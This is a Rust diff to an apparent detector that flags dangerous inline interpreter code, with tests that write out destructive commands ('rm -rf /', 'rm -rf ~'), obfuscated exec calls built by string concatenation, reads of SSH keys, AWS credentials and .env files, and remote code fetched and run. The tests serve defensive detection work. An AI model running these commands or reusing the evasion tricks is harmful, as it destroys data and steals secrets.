@@ -195,10 +195,11 @@ fn runtime_reads(argv: &[Word]) -> Vec<Finding> {
             None if matches!(text, "--env-file" | "--env-file-if-exists") => {
                 findings.extend(words.next().map(read))
             }
-            None if matches!(text, "-r" | "--require" | "--import") => {
-                if words.next().is_some_and(|module| module.starts_with("dotenv/config")) {
-                    findings.push(read(".env"));
-                }
+            // The module is the option's value either way; `dotenv/config` loads `.env`.
+            None if matches!(text, "-r" | "--require" | "--import")
+                && words.next().is_some_and(|module| module.starts_with("dotenv/config")) =>
+            {
+                findings.push(read(".env"));
             }
             _ => {}
         }
@@ -587,7 +588,119 @@ mod tests {
     }
 
     #[test]
+    fn exec_apis_and_computed_names() {
+        let words = |argv: &[&str]| Finding::Argv(argv.iter().map(|w| Word::literal(*w)).collect());
+        assert_eq!(
+            findings(&["python3", "-c", "import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')"]),
+            [words(&["rm", "-rf", "/"])]
+        );
+        assert_eq!(
+            findings(&["python3", "-c", "import os; os.posix_spawn('/bin/rm', ['rm', '-rf', '/'], {})"]),
+            [words(&["rm", "-rf", "/"])]
+        );
+        assert_eq!(
+            findings(&["python3", "-c", "getattr(__import__('o'+'s'), 'sys'+'tem')('rm -rf ~')"]),
+            [shell("rm -rf ~")]
+        );
+        assert_eq!(findings(&["python3", "-c", "from os import system as s; s('id')"]), [shell("id")]);
+        let computed = findings(&["python3", "-c", "getattr(__import__('os'), name)('x')"]);
+        assert!(matches!(&computed[..], [Finding::Opaque { call, .. }] if call == "getattr"), "{computed:?}");
+        // An argument that is not a literal is an unknown word, not dropped.
+        let unknown =
+            findings(&["python3", "-c", "import subprocess; subprocess.run(['rm', '-rf', target])"]);
+        assert!(
+            matches!(&unknown[..], [Finding::Argv(argv)] if argv.len() == 3 && argv[2].dynamic),
+            "{unknown:?}"
+        );
+        assert_eq!(findings(&["node", "-e", "require('child_process')['exec'+'Sync']('id')"]), [shell("id")]);
+        assert_eq!(
+            findings(&["deno", "eval", "new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()"]),
+            [words(&["rm", "-rf", "/"])]
+        );
+        assert_eq!(findings(&["bun", "-e", "await Bun.$`rm -rf ~`"]), [shell("rm -rf ~")]);
+        assert_eq!(findings(&["perl", "-e", "open(F, '|-', 'rm -rf ~')"]), [shell("rm -rf ~")]);
+        assert_eq!(findings(&["php", "-r", "popen('rm -rf ~', 'r');"]), [shell("rm -rf ~")]);
+        assert_eq!(findings(&["groovy", "-e", "'rm -rf ~'.execute()"]), [shell("rm -rf ~")]);
+        assert_eq!(findings(&["erl", "-noshell", "-eval", "os:cmd(\"id\"), halt()."]), [shell("id")]);
+        assert_eq!(
+            findings(&["elixir", "-e", "System.cmd(\"rm\", [\"-rf\", \"/\"])"]),
+            [words(&["rm", "-rf", "/"])]
+        );
+    }
+
+    #[test]
+    fn computed_paths_dotenv_and_remote_code() {
+        let read = |via: &str, path: &str| Finding::Access {
+            via: via.into(),
+            path: Word::literal(path),
+            write: false,
+        };
+        assert_eq!(
+            findings(&["python3", "-c", "print(open(os.path.expanduser('~/.ssh/id_rsa')).read())"]),
+            [read("python open", "~/.ssh/id_rsa")]
+        );
+        assert_eq!(
+            findings(&["python3", "-c", "print((pathlib.Path.home() / '.ssh' / 'id_rsa').read_text())"]),
+            [read("python pathlib.Path.home", "~/.ssh/id_rsa")]
+        );
+        assert_eq!(
+            findings(&["python3", "-c", "Path('~/.aws/credentials').expanduser().read_text()"]),
+            [read("python Path", "~/.aws/credentials")]
+        );
+        assert_eq!(
+            findings(&["python3", "-c", "print(open(chr(46) + 'env').read())"]),
+            [read("python open", ".env")]
+        );
+        assert_eq!(
+            findings(&["node", "-e", "fs.readFileSync(['.', 'env'].join(''))"]),
+            [read("node fs.readFileSync", ".env")]
+        );
+        assert_eq!(
+            findings(&["python3", "-c", "from dotenv import load_dotenv; load_dotenv()"]),
+            [read("python load_dotenv", ".env")]
+        );
+        assert_eq!(findings(&["node", "--env-file=.env", "app.js"]), [read("node --env-file", ".env")]);
+        assert_eq!(findings(&["bun", "run", "dev"]), []);
+        // A glob is a read only when the code reads the names it lists.
+        assert_eq!(
+            findings(&["python3", "-c", "[print(open(f).read()) for f in glob.glob('.e*')]"]),
+            [Finding::Access {
+                via: "python glob".into(),
+                path: Word { glob: true, ..Word::literal(".e*") },
+                write: false
+            }]
+        );
+        assert_eq!(findings(&["python3", "-c", "print(glob.glob('.e*'))"]), []);
+        assert_eq!(
+            findings(&["julia", "-e", "include(download(\"https://x.example/a.jl\"))"]),
+            [Finding::Remote { via: "julia include".into(), url: "https://x.example/a.jl".into() }]
+        );
+        assert_eq!(
+            findings(&["python3", "-c", "import os; print(os.environ)"]),
+            [Finding::Environment { sent: false }]
+        );
+    }
+
+    #[test]
     fn broken_code_never_panics() {
+        let programs: [&[&str]; 8] = [
+            &["guile", "-c"],
+            &["erl", "-eval"],
+            &["elixir", "-e"],
+            &["groovy", "-e"],
+            &["expect", "-c"],
+            &["vim", "-c"],
+            &["Rscript", "-e"],
+            &["julia", "-e"],
+        ];
+        for code in ["(", "\\é", "\"é", "getattr(", "__import__(", "x['", "Path(", "`", "\\", "#|", "é['a'+"]
+        {
+            for program in programs {
+                let _ = findings(&[program[0], program[1], code]);
+            }
+            let _ = findings(&["python3", "-c", code]);
+            let _ = findings(&["node", "-e", code]);
+        }
         for code in
             ["os.system(", "os.system('", "shutil.rmtree(\"", "`", "%x", "qx", "f'''", "system \"é", "r'é"]
         {
